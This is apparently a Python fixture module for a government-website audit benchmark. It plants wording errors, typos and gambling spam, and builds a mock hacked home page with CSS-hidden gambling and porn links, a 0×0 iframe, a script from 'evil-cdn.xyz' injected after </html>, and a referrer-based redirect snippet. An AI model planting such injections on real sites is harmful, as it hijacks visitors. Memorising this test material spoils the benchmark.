"""Defects planted in what the pages say: 严重表述错误, 错别字, 违规内容, and a hacked home page.

These are the cases of the `content.*` rules (contract.md §2, standards.md V19-1). Each site's
`SiteWording` lists texts to put into given articles (a paragraph appended to the body) or, for
the one list-title case, the title of a list item that has no page of its own; each text says
which wrong forms it carries. A text carrying none is a trap: a correct form, or a correct
neighbour that contains a wrong form's characters (学习近乎三万字, 全国政协委员长期关注, 打击网络
赌博), which a correct census must not report. Every content site also carries `COMMON_TRAPS`,
the correct forms (习近平总书记, 中华人民共和国, 人民检察院 …) every government site prints.

The wrong forms were written from what inspection 通报 call 严重表述错误 and 错别字, independently of
the rules' lexicons (`govsite/lexicons/`), so that the truth tests the lexicons instead of
copying them. One finding per occurrence per page: a text is planted where it shows on exactly
one page (an article body, or the row of a PDF item that is on neither the home page nor any
other list page), so "which page reports a repeated block" never decides the truth.

The hacked home page (`HackedHome`) carries 暗链: links to gambling and porn hosts hidden by
CSS, a zero-size frame to a foreign host and a script injected after `</html>`; next to them
the traps a real home page has (a hidden drop-down of the site's own pages, a visibility:hidden
skip link, a hidden mobile menu linking 中国政府网).
"""

from __future__ import annotations

from dataclasses import dataclass
from html import escape

from govsite.fleet.content import Column

SERIOUS = "content.serious_error"
TYPO = "content.typo"
BANNED = "content.banned"
HIDDEN = "content.hidden_link"
TEXT_RULES = (SERIOUS, TYPO, BANNED)

# The first three columns of every content site, in `plan.column_kinds` order.
REGULAR = {"news": 0, "notices": 1, "policies": 2}

ZWSP = "\u200b"  # zero-width space: invisible, but splits a name for a naive substring search
IDEOGRAPHIC_SPACE = "\u3000"  # the full-width space


@dataclass(frozen=True)
class Wrong:
    """One wrong form in a planted text: exactly as served, and what it should say.

    `correct` is the right form for 严重表述错误 and 错别字, the category for 违规内容.
    """

    rule: str
    text: str
    correct: str

    @property
    def note(self) -> str:
        """The TruthItem note: the wrong text (typos: wrong→correct)."""
        return f"{self.text}→{self.correct}" if self.rule == TYPO else self.text


@dataclass(frozen=True)
class TextPlant:
    """A text put on a page: a paragraph appended to an article, or a list item's title.

    `where` is "news", "notices", "policies" (the site's first three columns) or a column name;
    `index` the item in it, newest first. `wrongs` are the defects it carries, in order; a
    text without any is a trap and `why` says why it is correct.
    """

    where: str
    index: int
    text: str
    wrongs: tuple[Wrong, ...] = ()
    title: bool = False
    why: str = ""


@dataclass(frozen=True)
class HiddenItem:
    """A 暗链/挂马 item of the hacked home page: a link, a frame or a script, and how it hides."""

    kind: str
    target: str
    how: str
    text: str = ""


@dataclass(frozen=True)
class HackedHome:
    """The injected markup of a hacked home page and the items a census must report."""

    top: str
    bottom: str
    tail: str
    items: tuple[HiddenItem, ...]
    traps: tuple[str, ...]


@dataclass(frozen=True)
class SiteWording:
    """The content-text plants of one site; the default carries none.

    `hacked` makes the home page the hacked one (`hacked_home`, built from the site's columns).
    """

    texts: tuple[TextPlant, ...] = ()
    hacked: bool = False


@dataclass(frozen=True)
class PlacedText:
    """A planted text and the path of the one page that shows it."""

    path: str
    plant: TextPlant


def serious(text: str, correct: str) -> Wrong:
    return Wrong(SERIOUS, text, correct)


def typo(text: str, correct: str) -> Wrong:
    return Wrong(TYPO, text, correct)


def banned(text: str, category: str = "赌博") -> Wrong:
    return Wrong(BANNED, text, category)


def trap(where: str, index: int, text: str, why: str) -> TextPlant:
    return TextPlant(where, index, text, why=why)


# --- correct forms every content site prints ----------------------------------------------------

COMMON_TRAPS: tuple[TextPlant, ...] = (
    trap("news", 0, "会议传达学习了习近平总书记重要讲话精神，强调要深入学习贯彻习近平新时代中国特色"
         "社会主义思想，全面贯彻党的二十大和二十届三中全会精神，不忘初心、牢记使命。",
         "正确表述：习近平总书记、习近平新时代中国特色社会主义思想、党的二十大、二十届三中全会"),
    trap("notices", 0, "本通知依据《中华人民共和国政府信息公开条例》制定；涉及法律监督事项的，依法移送"
         "区人民检察院办理。", "正确名称：中华人民共和国、人民检察院"),
)

# --- 严重表述错误 -----------------------------------------------------------------------------------

XJP = "习近平"
NAME_SLIP = "习近乎"  # 乎 for 平: the classic look-alike slip

PORTAL_TEXTS = (
    TextPlant("news", 1, "会议传达学习了习近乎总书记在中央城市工作会议上的重要讲话精神。",
              (serious(NAME_SLIP, XJP),)),
    TextPlant("news", 3, "区政府党组强调，要完整准确全面贯彻新时代中国特色社会主义思想，推动各项工作"
              "落地见效。", (serious("新时代中国特色社会主义思想", "习近平新时代中国特色社会主义思想"),)),
    TextPlant("news", 5, f"全区各级党组织要把学习习{ZWSP}近乎总书记重要指示精神作为首要政治任务。",
              (serious(f"习{ZWSP}近乎", XJP),)),
    TextPlant("notices", 0, "根据《中华人民共合国政府信息公开条例》规定，现将有关事项公告如下。",
              (serious("中华人民共合国", "中华人民共和国"),)),
    TextPlant("policies", 1, "为深入贯彻党的二十次大会精神，结合本区实际，制定本方案。",
              (serious("党的二十次大会", "党的二十大"),)),
    trap("news", 2, "机关党支部组织党员逐段学习近乎三万字的报告原文，交流学习体会。",
         "“学习近乎三万字”：学习 + 近乎，不是人名"),
    trap("news", 4, "全国政协委员长期关注城市更新工作，多次就老旧小区改造提出建议。",
         "“委员长期”：委员 + 长期，不是职务“委员长”"),
    trap("notices", 1, "区公安分局通报，今年以来持续严厉打击网络赌博违法犯罪活动，依法查处地下"
         "六合彩窝点2个。", "执法通报：打击、查处语境中的赌博用语"),
)

FGW_TEXTS = (
    TextPlant("news", 1, "会议要求，对照国家发展与改革委员会有关部署，抓好重点项目谋划储备。",
              (serious("国家发展与改革委员会", "国家发展和改革委员会"),)),
    TextPlant("news", 2, "我委党组理论学习中心组专题学习习近平总理关于推动高质量发展的重要论述。",
              (serious("习近平总理", "习近平总书记"),)),
    TextPlant("news", 4, "会议强调，要深入领会習近乎總書記关于发展改革工作的重要论述。",
              (serious("習近乎", XJP),)),
    TextPlant("notices", 1, "根据中共中央纪律检察委员会有关要求，现就节日期间纠治“四风”有关事项通知如下。",
              (serious("纪律检察委员会", "纪律检查委员会"),)),
    trap("news", 3, "国家发展和改革委员会近日印发通知，我委第一时间传达学习，习近平主席、习近平同志的"
         "有关重要论述一并纳入学习内容。", "正确名称与称谓：国家发展和改革委员会、习近平主席、习近平同志"),
)

JW_TEXTS = (
    TextPlant("news", 1, "区教委组织全系统干部学习习 近 乎总书记关于教育的重要论述。",
              (serious("习 近 乎", XJP),)),
    TextPlant("news", 2, "全区教育系统深入学习贯彻党的二十大三中全会精神。",
              (serious("二十大三中全会", "二十届三中全会"),)),
    TextPlant("news", 4, "广大教师要不忘初衷、牢记使命，办好人民满意的教育。",
              (serious("不忘初衷、牢记使命", "不忘初心、牢记使命"),)),
    TextPlant("news", 6, "全区中小学组织师生学习刁近平总书记重要讲话精神。",
              (serious("刁近平", XJP),)),
    TextPlant("notices", 0, "根据《中华人民共合国义务教育法》有关规定，现将有关事项通知如下。",
              (serious("中华人民共合国", "中华人民共和国"),)),
    trap("news", 3, "区教委联合文化执法部门开展“扫黄打非·护苗”专项行动，净化校园周边文化环境。",
         "“扫黄打非”是正当执法用语"),
    trap("news", 5, "中国共产党第二十次全国代表大会和党的二十届中央委员会的部署要求，要在教育系统落地"
         "见效；学校负责人始终不忘初衷，坚持为学生办实事。",
         "正确名称：第二十次全国代表大会、二十届中央委员会；单用“不忘初衷”是普通成语"),
)

RSJ_TEXTS = (
    TextPlant("news", 1, "局党组理论学习中心组专题学习习近乎总书记关于就业工作的重要论述。",
              (serious(NAME_SLIP, XJP),)),
    TextPlant("news", 3, f"深入学习贯彻习{IDEOGRAPHIC_SPACE}近{IDEOGRAPHIC_SPACE}乎总书记关于劳动者权益"
              "保障的重要指示。",
              (serious(f"习{IDEOGRAPHIC_SPACE}近{IDEOGRAPHIC_SPACE}乎", XJP),)),
    TextPlant("news", 5, "全局干部职工认真学习中国共产党第二十届全国代表大会报告。",
              (serious("第二十届全国代表大会", "第二十次全国代表大会"),)),
    TextPlant("notices", 0, "根据人力资源与社会保障部有关文件精神，现就有关事项通知如下。",
              (serious("人力资源与社会保障部", "人力资源和社会保障部"),)),
    TextPlant("policies", 0, "会同区人民检查院开展劳动保障监察与法律监督衔接工作。",
              (serious("人民检查院", "人民检察院"),)),
    trap("news", 2, "局党组坚定不移推进全面从严治党和反腐败斗争，畅通信访渠道，依法及时就地解决群众"
         "合理诉求。", "“反腐败”“信访”是正当政务用语"),
)

ZJW_TEXTS = (
    TextPlant("news", 1, "深入贯彻习进平总书记关于城市工作的重要论述。",
              (serious("习进平", XJP),)),
    TextPlant("news", 3, "认真办理中国人民政治协商委员会委员提案，按期答复率达到百分之百。",
              (serious("中国人民政治协商委员会", "中国人民政治协商会议"),)),
    # A PDF item on the second list page only: the title shows on that one page.
    TextPlant("规范性文件", 6, "海德区贯彻《中华人民共合国建筑法》实施细则",
              (serious("中华人民共合国", "中华人民共和国"),), title=True),
    trap("news", 2, "依法做好国有土地上房屋征收与拆迁安置工作，严格执行《中华人民共和国建筑法》。",
         "“拆迁”是正当政务用语；中华人民共和国建筑法名称正确"),
)

# --- 一般错别字 -------------------------------------------------------------------------------------

SCJGJ_TEXTS = (
    TextPlant("news", 1, "会议对下一阶段食品安全监管工作进行了布署。", (typo("布署", "部署"),)),
    TextPlant("news", 2, "各科室要贯切落实上级决策部署，确保监管责任落到实处。",
              (typo("贯切落实", "贯彻落实"),)),
    TextPlant("notices", 0, "截止目前，全区已完成特种设备定期检验一千二百余台。",
              (typo("截止目前", "截至目前"),)),
    trap("notices", 1, "对抽检结果有异议的，申请复检的截止日期为收到检验结论之日起七个工作日。",
         "“截止日期”是正确用法"),
    trap("news", 3, "截至目前，已办结投诉举报三百余件，群众满意率持续提升。", "“截至目前”是正确用法"),
)

DHKJY_TEXTS = (
    TextPlant("news", 1, "既使遇到困难，园区也要确保重点项目按期推进。", (typo("既使", "即使"),)),
    TextPlant("news", 2, "园区为入驻企业按装新能源汽车充电桩五十个。", (typo("按装", "安装"),)),
    TextPlant("news", 3, "着力营造公平竟争的市场环境，持续优化园区营商环境。", (typo("竟争", "竞争"),)),
    trap("news", 4, "园区出台扶持措施，既使企业得实惠，又使群众享便利；即使在外部环境复杂的情况下，"
         "企业核心竞争力也持续增强。", "“既使……又使……”是正确搭配；即使、竞争正确"),
)

WJW_TEXTS = (
    TextPlant("news", 1, "面对基层医疗人才短缺问题，不能一愁莫展，要主动想办法。",
              (typo("一愁莫展", "一筹莫展"),)),
    TextPlant("news", 2, "各社区卫生服务中心要再接再励，持续提升服务水平。",
              (typo("再接再励", "再接再厉"),)),
)

DSJZX_TEXTS = (
    TextPlant("news", 1, "中心将一如即往做好政务数据共享支撑工作。", (typo("一如即往", "一如既往"),)),
    TextPlant("news", 2, "全体干部竞竞业业，确保电子政务外网安全稳定运行。",
              (typo("竞竞业业", "兢兢业业"),)),
    trap("news", 3, "中心一如既往抓好数据安全工作，兢兢业业做好公共数据开放服务。",
         "一如既往、兢兢业业正确"),
)

# --- 违规内容: one hacked article --------------------------------------------------------------------

ZGY_TEXTS = (
    TextPlant("news", 2, "免费领取百家乐攻略，网上赌场天天开放，六合彩每晚直播，详情加微信。",
              (banned("百家乐"), banned("网上赌场"), banned("六合彩"))),
)

# --- 暗链/挂马: the hacked home page --------------------------------------------------------------

BET_HOST = "www.bet365-vip.com"
W88_HOST = "www.w88-asia.com"
PORN_HOST = "www.av99-sex.com"
FRAME_HOST = "stat.51-tongji.xyz"
EVIL_CDN_HOST = "evil-cdn.xyz"
EVIL_SCRIPT_PATH = "/js/tj.js"

# Landing pages of the hosts the hacked page points to (served by `externals.py`, so that a
# census's link check gets a 200 from 127.0.0.1 like for any other external host).
FOREIGN_HOSTS = {
    BET_HOST: ("bet365", "在线体育"),
    W88_HOST: ("w88", "亚洲在线"),
    PORN_HOST: ("av99", "成人视频"),
    FRAME_HOST: ("统计", "访问统计"),
}
EVIL_SCRIPT = (
    "(function(){var s=document.referrer;if(/baidu|sogou|so\\.com/.test(s)){"
    "window.location.href='http://www.bet365-vip.com/';}})();\n"
)


def hacked_home(columns: tuple[tuple[str, str], ...]) -> HackedHome:
    """The injected blocks of the hacked home page; `columns` (name, path) feed the trap menu."""
    bet = HiddenItem("link", f"http://{BET_HOST}/", "display:none（行内样式）", "bet365")
    w88 = HiddenItem("link", f"http://{W88_HOST}/?aff=1688", "display:none（行内样式）", "w88")
    porn = HiddenItem("link", f"http://{PORN_HOST}/", "position:absolute;left:-9999px"
                      "（<style> 中的 .fl-links 规则）", "av99")
    frame = HiddenItem("iframe", f"http://{FRAME_HOST}/c.html", "0×0 iframe")
    script = HiddenItem("script", f"http://{EVIL_CDN_HOST}{EVIL_SCRIPT_PATH}", "</html> 之后注入的外部脚本")
    menu = "".join(f'<li><a href="{escape(path)}">{escape(name)}</a></li>' for name, path in columns)
    top = (
        '<a href="#main" class="skip-link" style="visibility:hidden">跳转到主要内容</a>\n'
        f'<ul class="subnav" style="display:none">{menu}</ul>\n'
        '<div class="m-nav" style="display:none"><a href="http://www.gov.cn/">中国政府网</a></div>\n'
        f'<div style="display:none"><a href="{escape(bet.target)}" target="_blank">{bet.text}</a> '
        f'<a href="{escape(w88.target)}" target="_blank">{w88.text}</a></div>\n'
    )
    bottom = (
        "\n<style>.fl-links{position:absolute;left:-9999px;top:-9999px}</style>"
        f'<div class="fl-links"><a href="{escape(porn.target)}">{porn.text}</a></div>\n'
        f'<iframe src="{escape(frame.target)}" width="0" height="0" frameborder="0"></iframe>\n'
    )
    tail = f'<script type="text/javascript" src="{escape(script.target)}"></script>\n'
    traps = (
        "隐藏的下拉菜单（display:none）只链接本站栏目",
        "visibility:hidden 的跳转链接指向本页 #main",
        "隐藏的移动端菜单（display:none）链接中国政府网（政府网站）",
    )
    return HackedHome(top, bottom, tail, (bet, w88, porn, frame, script), traps)


HACKED_SITE = "dsjzx"

WORDING: dict[str, tuple[TextPlant, ...]] = {
    "portal": PORTAL_TEXTS, "fgw": FGW_TEXTS, "jw": JW_TEXTS, "rsj": RSJ_TEXTS, "zjw": ZJW_TEXTS,
    "scjgj": SCJGJ_TEXTS, "dhkjy": DHKJY_TEXTS, "wjw": WJW_TEXTS, "dsjzx": DSJZX_TEXTS,
    "zgy": ZGY_TEXTS,
}


def site_wording(key: str) -> SiteWording:
    """The plants of the catalogue site `key` (filler sites get none but the common traps)."""
    return SiteWording(texts=WORDING.get(key, ()), hacked=key == HACKED_SITE)


def column_for(columns: list[Column], where: str) -> Column | None:
    if where in REGULAR:
        index = REGULAR[where]
        return columns[index] if index < len(columns) else None
    return next((c for c in columns if c.name == where), None)


def place_texts(columns: list[Column], plants: tuple[TextPlant, ...], *,
                home_items: int) -> list[PlacedText]:
    """Put each text into its article (or item title); returns where each one landed.

    A plant whose column is missing or shorter than its index (a small benchmark site) is
    skipped, and so is not in the truth either. A title plant must land on an item without a
    page of its own that the home page does not list: its title then shows on one page only.
    """
    placed = []
    for plant in plants:
        column = column_for(columns, plant.where)
        if column is None or plant.index >= len(column.articles):
            continue
        article = column.articles[plant.index]
        if article.guide is not None:
            raise ValueError(f"{plant.where}[{plant.index}] is a 办事指南 page")
        if plant.title:
            if not article.file or (column.on_home and plant.index < home_items):
                raise ValueError(f"title plant {plant.text!r} would show on several pages")
            article.title = plant.text
            placed.append(PlacedText(column.page_path(plant.index // column.per_page), plant))
        else:
            if article.file:
                raise ValueError(f"{plant.where}[{plant.index}] has no page for a paragraph")
            article.paragraphs.append(plant.text)
            placed.append(PlacedText(article.path, plant))
    return placed
